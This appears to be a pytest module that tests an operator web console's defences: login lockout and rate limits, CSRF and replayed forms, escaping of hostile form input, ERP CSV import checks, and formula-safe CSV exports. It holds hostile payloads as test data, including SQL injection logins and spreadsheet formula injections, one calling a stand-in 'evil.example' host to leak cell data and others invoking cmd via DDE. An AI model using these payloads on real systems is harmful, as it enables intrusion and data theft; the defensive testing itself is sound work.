"""The operator console's forms under hostile input: login, master-data and order
forms, the ERP CSV import, the exports; and replayed forms (CSRF token of an ended
session). What must hold: never a 500, a refusal where a value is wrong, nothing
changed by a refused or replayed form, every hostile text escaped on the pages, and
no exported cell a spreadsheet would run as a formula. One SQLite cloud per module
with the consumer story (tests/cloud/consumer_story.py)."""
import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

import consumer_story as story
from cloud.db import get_db
from cloud.master import SalesOrder
from console_support import PASSWORD, login, make_operator, post
from hostile import HOSTILE_TEXT, SQLI, XSS, hostile, no_live_markup

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def admin(cloud_app):
    make_operator(cloud_app, "sec-admin", "admin")
    c = cloud_app.test_client()
    c.environ_base["REMOTE_ADDR"] = "127.0.0.76"   # not throttled by the hostile logins
    return c, login(c, "sec-admin")


def orders(app):
    with get_db(app).Session() as s:
        return s.scalar(select(func.count()).select_from(SalesOrder))


# --- login -------------------------------------------------------------------------------
LOGINS = [(XSS[1], "x"), (SQLI[0], SQLI[0]), ("sec-admin' --", "x"), ("sec-admin\x00", PASSWORD),
          ("x" * 5000, "x"), ("sec-admin", "x" * 100_000), ("sec-admin", "' OR '1'='1"), ("sec-admin", ""),
          ("sec-admin", PASSWORD + "x"), ("sec-admin", PASSWORD + "y"),
          ("sec-admin", PASSWORD)]  # the right one, after 5 wrong ones in a row: locked (403), not in


def test_hostile_logins_never_get_in_and_come_back_escaped(cloud_app, admin):
    c = cloud_app.test_client()
    c.environ_base["REMOTE_ADDR"] = "127.0.0.75"
    seen = set()
    for username, password in LOGINS:
        r = c.post("/console/login?lang=en", data={"username": username, "password": password})
        assert r.status_code in (200, 400, 401, 403, 413, 429), r.status_code  # 403: account locked
        seen.add(r.status_code)
        no_live_markup(r.get_data(as_text=True))
        assert c.get("/console/").status_code in (302, 401, 403), "logged in with %r / %r" % (username, password[:20])
    assert 403 in seen, "five wrong passwords in a row lock the account, even against the right one"


# --- CSRF and replayed forms --------------------------------------------------------------
def test_a_form_without_or_with_a_wrong_csrf_token_changes_nothing(cloud_app, admin):
    c, csrf = admin
    n = orders(cloud_app)
    for token in (None, "", "x", csrf[:-1] + ("A" if csrf[-1] != "A" else "B"), "' OR '1'='1"):
        data = {"number": "SO-CSRF", "customer_name": "x", "customer_region": "CN-31", "status": "open"}
        if token is not None:
            data["csrf_token"] = token
        r = c.post("/console/md/orders/new", data=data)
        assert r.status_code == 400
    assert orders(cloud_app) == n


def test_a_form_replayed_after_logout_changes_nothing(cloud_app):
    make_operator(cloud_app, "sec-replay", "admin")
    c = cloud_app.test_client()
    # its own client address: the hostile logins above have the loopback one throttled
    # (429: the login rate limit holds)
    c.environ_base["REMOTE_ADDR"] = "127.0.0.77"
    csrf = login(c, "sec-replay")
    cookie = c.get_cookie("onecode_console") or next(iter(c._cookies.values()))
    form = {"number": "SO-REPLAY", "customer_name": "x", "customer_region": "CN-31", "status": "open"}
    assert post(c, "/console/logout", csrf).status_code in (302, 303)
    n = orders(cloud_app)
    # the same browser replays the form with the ended session's cookie and token
    r = post(c, "/console/md/orders/new", csrf, form)
    assert r.status_code in (302, 400, 401) and orders(cloud_app) == n
    # a captured request replayed by another client: the old cookie and the old token
    other = cloud_app.test_client()
    other.environ_base["REMOTE_ADDR"] = "127.0.0.78"
    other.set_cookie(cookie.key, cookie.value)
    r = post(other, "/console/md/orders/new", csrf, form)
    assert r.status_code in (302, 400, 401) and orders(cloud_app) == n
    # a new session of the same operator does not take the old token either
    login(c, "sec-replay")
    r = post(c, "/console/md/orders/new", csrf, form)
    assert r.status_code == 400 and orders(cloud_app) == n


# --- master-data forms: injection comes back escaped ---------------------------------------
@pytest.mark.parametrize("payload", XSS + SQLI)
def test_injection_in_order_fields_is_stored_as_text_and_shown_escaped(cloud_app, admin, payload):
    c, csrf = admin
    number = "SO-X%d" % (abs(hash(payload)) % 10 ** 8)
    r = post(c, "/console/md/orders/new?lang=en", csrf, {"number": number, "customer_name": payload,
                                                         "customer_region": "CN-31", "status": "open"})
    assert r.status_code in (302, 400)
    no_live_markup(r.get_data(as_text=True))
    listing = c.get("/console/md/orders?lang=en&q=" + number)
    assert listing.status_code == 200
    html = listing.get_data(as_text=True)
    no_live_markup(html)
    if r.status_code == 302:
        with get_db(cloud_app).Session() as s:
            assert s.scalar(select(SalesOrder.customer_name).where(SalesOrder.number == number)) == payload


FORMS = {
    "/console/md/orders/new": ["number", "customer_name", "customer_region", "status"],
    "/console/md/products/new": ["gtin", "name_zh", "name_en", "brand_story_zh", "brand_story_en"],
    "/console/md/batches/new": ["gtin", "lot", "production_date", "expiry_date", "line", "shift"],
    "/console/md/locations/new": ["gln", "sgln", "kind", "name_zh", "name_en", "region", "site", "parent"],
    "/console/md/shipments/new": ["number", "order", "carrier", "carrier_tracking", "status", "units"],
}
hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=40))


@hostile(factor=1.5)
@given(path=st.sampled_from(sorted(FORMS)), data=st.data())
def test_hostile_master_data_forms_never_give_a_500(cloud_app, admin, path, data):
    c, csrf = admin
    form = data.draw(st.fixed_dictionaries({}, optional={f: hostile_text for f in FORMS[path]}))
    r = post(c, path + "?lang=en", csrf, form)
    assert r.status_code in (302, 400, 413), (path, form, r.status_code)
    no_live_markup(r.get_data(as_text=True))


@hostile(factor=0.5)
@given(q=hostile_text, page=st.one_of(st.integers(-5, 10 ** 12).map(str), hostile_text))
def test_hostile_search_and_paging_never_give_a_500(admin, q, page):
    c, _ = admin
    for path in ("/console/md/orders", "/console/md/products", "/console/md/batches", "/console/audit",
                 "/console/recall/"):
        r = c.get(path, query_string={"q": q, "page": page, "lang": "en"})
        assert r.status_code in (200, 400, 404), (path, r.status_code)
        no_live_markup(r.get_data(as_text=True))


# --- the ERP CSV import --------------------------------------------------------------------
HEAD = "order_number,customer,customer_region,shipment_number,carrier,carrier_tracking,units\n"


def preview(c, csrf, raw):
    return post(c, "/console/md/orders/import?lang=en", csrf, {"action": "preview", "file": (io.BytesIO(raw), "erp.csv")},
                content_type="multipart/form-data")


@pytest.mark.parametrize("raw", [
    b"", b"\x00" * 1000, b"\xff\xfe\x00\x00garbage", b"PK\x03\x04" + bytes(range(256)) * 4,  # a zip (xlsx)
    HEAD.encode("utf-16"), (HEAD + "SO-1\x00,x,CN-31,,,,\n").encode(),
    (HEAD + '"unterminated,quote\n').encode(),
    b"a" * 4097,  # over CONSOLE_IMPORT_MAX_BYTES, set to 4096 here (uploads stay in memory)
])
def test_malformed_csv_files_are_refused_or_previewed_and_nothing_is_written(cloud_app, admin, raw, monkeypatch):
    c, csrf = admin
    monkeypatch.setitem(cloud_app.config, "CONSOLE_IMPORT_MAX_BYTES", 4096)
    n = orders(cloud_app)
    with preview(c, csrf, raw) as r:
        assert r.status_code in (200, 400, 413), r.status_code
        no_live_markup(r.get_data(as_text=True))
    assert orders(cloud_app) == n, "a preview writes nothing"


@hostile()
@given(raw=st.one_of(st.binary(max_size=400),
                     st.lists(st.lists(hostile_text, min_size=7, max_size=7), max_size=4).map(
                         lambda rows: (HEAD + "".join(",".join(r) + "\n" for r in rows)).encode("utf-8", "replace"))))
def test_hostile_csv_files_never_give_a_500(cloud_app, admin, raw):
    c, csrf = admin
    n = orders(cloud_app)
    r = preview(c, csrf, raw)
    assert r.status_code in (200, 400, 413), r.status_code
    no_live_markup(r.get_data(as_text=True))
    assert orders(cloud_app) == n


def _confirm(c, csrf, page):
    csv_b64 = re.search(r'name="csv" value="([^"]*)"', page).group(1)
    return post(c, "/console/md/orders/import?lang=en", csrf, {"action": "confirm", "filename": "erp.csv",
                                                               "csv": csv_b64})


def test_a_replayed_import_confirmation_changes_nothing_the_second_time(cloud_app, admin):
    c, csrf = admin
    raw = (HEAD + "SO-IMP-1,Importer One,CN-31,,,,\nSO-IMP-2,Importer Two,CN-11,,,,\n").encode()
    page = preview(c, csrf, raw).get_data(as_text=True)
    n = orders(cloud_app)
    assert _confirm(c, csrf, page).status_code in (200, 302)
    assert orders(cloud_app) == n + 2
    assert _confirm(c, csrf, page).status_code in (200, 302)
    assert orders(cloud_app) == n + 2


def test_a_tampered_import_confirmation_is_checked_again(cloud_app, admin):
    # the confirm step carries the file back from the browser: it must be re-checked,
    # not trusted (a bad row smuggled into it is refused like in a preview)
    import base64
    c, csrf = admin
    n = orders(cloud_app)
    bad = base64.b64encode((HEAD + "SO-TAMPER,,CN-31,SHP-T,SF,SF1,not-a-unit\n").encode()).decode()
    r = post(c, "/console/md/orders/import?lang=en", csrf, {"action": "confirm", "filename": "erp.csv", "csv": bad})
    assert r.status_code in (200, 400)
    assert orders(cloud_app) == n
    r = post(c, "/console/md/orders/import?lang=en", csrf, {"action": "confirm", "filename": "erp.csv",
                                                            "csv": "!!not base64!!"})
    assert r.status_code in (200, 400) and orders(cloud_app) == n


# --- exports: no cell runs as a formula ----------------------------------------------------
def runnable_cells(rows):
    return [cell for row in rows for cell in row if cell[:1] in RUNNABLE]


@pytest.fixture(scope="module")
def formula_customer(cloud_app, admin):
    """SO-1 (the order of the story's pallet) renamed to a formula, through the form."""
    c, csrf = admin
    with get_db(cloud_app).Session() as s:
        order = s.scalars(select(SalesOrder).where(SalesOrder.number == "SO-1")).one()
        oid = order.id
    r = post(c, "/console/md/orders/%d" % oid, csrf, {"number": "SO-1", "customer_name": FORMULAS[0],
                                                      "customer_region": "CN-31", "status": "open"})
    assert r.status_code == 302, r.get_data(as_text=True)[:500]
    return FORMULAS[0]


def test_the_recall_csv_has_no_cell_a_spreadsheet_would_run(cloud_app, admin, formula_customer):
    c, _ = admin
    r = c.get("/console/recall/export.csv", query_string={"kind": "batch", "target": story.LOT_L1})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    assert any(formula_customer in cell for row in rows for cell in row), "the customer is in the export"
    assert runnable_cells(rows) == [], "formula cells in the recall CSV"


def test_the_fsma_exports_have_no_cell_a_spreadsheet_would_run(cloud_app, admin, formula_customer):
    c, csrf = admin
    r = post(c, "/console/exports/fsma204", csrf, {"lot": story.LOT_L1, "action": "download"})
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    rows = list(csv.reader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    assert len(rows) > 1 and runnable_cells(rows) == []


@pytest.mark.parametrize("value", FORMULAS)
def test_the_export_cell_rule_neutralises_every_formula_start(value):
    from cloud.console import export_files
    assert export_files.safe_cell(value)[:1] not in RUNNABLE
